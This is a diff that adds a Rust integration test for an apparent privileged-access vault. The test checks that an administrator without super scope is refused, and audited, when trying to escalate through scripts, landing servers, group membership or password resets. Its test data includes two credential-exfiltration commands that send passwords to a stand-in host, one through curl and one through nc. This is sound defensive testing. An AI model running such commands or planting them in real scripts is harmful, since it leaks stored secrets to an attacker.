@@ -585,3 +585,108 @@ async fn taking_a_users_access_away_ends_sessions_sockets_logins_and_tokens() {
         "{text}"
     );
 }
+
+/// An administrator without the super-administrator scope tries the four ways around the
+/// shares: a script that types a secret into a command line, attaching a landing server to a
+/// resource they do not manage, adding themselves to a group that holds shares, and resetting
+/// a share holder's password. Each is refused and audited; a super administrator may do the
+/// first (an alert).
+#[tokio::test]
+async fn an_administrator_without_super_scope_cannot_reach_around_the_shares() {
+    let site = Site::new(Backend::Sqlite);
+    let server = site.start();
+    let root = server.admin().await;
+    let (eve, eve_id) = server.user(&root, "eve", "administrator").await;
+    let (_, holder_id) = server.user(&root, "holder", "password_user").await;
+    let target = root.resource("crown-jewels").await;
+    let account = root.account(&target, "app", "Crown-Jewels-Pw-0001!").await;
+    root.call("POST", "/shares", json!({ "subject_kind": "user", "subject_id": holder_id, "object_kind": "account", "object_id": account, "level": "view" })).await.ok();
+    let group = root
+        .call("POST", "/user-groups", json!({ "name": "dbas" }))
+        .await
+        .ok()["id"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
+    root.call("POST", "/shares", json!({ "subject_kind": "group", "subject_id": group, "object_kind": "account", "object_id": account, "level": "view" })).await.ok();
+    // Eve's own machine, made into a landing server (she may create resources).
+    let mine = eve.resource("eves-box").await;
+    let mine_acc = eve.account(&mine, "eve", "Eves-Own-Box-Pw-0002!").await;
+    let landing = eve
+        .call(
+            "POST",
+            "/landing-servers",
+            json!({ "name": "EVE", "primary_resource_id": mine, "account_id": mine_acc }),
+        )
+        .await
+        .ok()["id"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
+
+    let exfiltrate = json!({ "method": "script", "script": { "steps": [
+        { "label": "prompt", "expect": "[$#] $", "send": "curl -s https://x.example/?p={current_password}" },
+        { "label": "done", "expect": "[$#] $" }
+    ] } });
+    let refused = [
+        eve.call(
+            "PUT",
+            &format!("/resources/{target}/rotation"),
+            exfiltrate.clone(),
+        )
+        .await,
+        eve.call(
+            "PUT",
+            "/logon-scripts/linux",
+            json!({ "script": { "steps": [
+            { "label": "login", "expect": "login: $", "send": "{username}" },
+            { "label": "pw", "expect": "assword: $", "send": "{password}" },
+            { "label": "leak", "expect": "[$#] $", "send": "echo {password} | nc x.example 9" }
+        ] } }),
+        )
+        .await,
+        eve.call(
+            "PUT",
+            &format!("/resources/{target}/landing-server"),
+            json!({ "landing_server_id": landing }),
+        )
+        .await,
+        eve.call(
+            "PATCH",
+            &format!("/user-groups/{group}"),
+            json!({ "member_ids": [eve_id] }),
+        )
+        .await,
+        eve.call(
+            "POST",
+            &format!("/users/{holder_id}/reset-password"),
+            json!({}),
+        )
+        .await,
+    ];
+    for (i, r) in refused.iter().enumerate() {
+        assert_eq!(r.status, 403, "attempt {i}: {:?}", r.body);
+    }
+    let denied = root.get("/audit?outcome=denied").await.ok().to_string();
+    for action in [
+        "resource.rotation",
+        "logon_script.set",
+        "resource.landing",
+        "user_group.update",
+        "user.password.reset",
+    ] {
+        assert!(denied.contains(action), "{action} not audited: {denied}");
+    }
+    // Nothing changed: the group has no new member, the resource no landing server.
+    let g = root.get(&format!("/user-groups/{group}")).await.ok();
+    assert_eq!(g["member_ids"], json!([]), "{g}");
+    let path = root.get(&format!("/resources/{target}/path")).await.ok();
+    assert!(!path.to_string().contains("EVE"), "{path}");
+
+    // A super administrator may save the device-style script; it is an alert.
+    root.call("PUT", &format!("/resources/{target}/rotation"), exfiltrate)
+        .await
+        .ok();
+    let set = root.get("/audit?action=resource.rotation").await.ok();
+    assert!(set[0]["detail"]["alert"].is_string(), "{set}");
+}
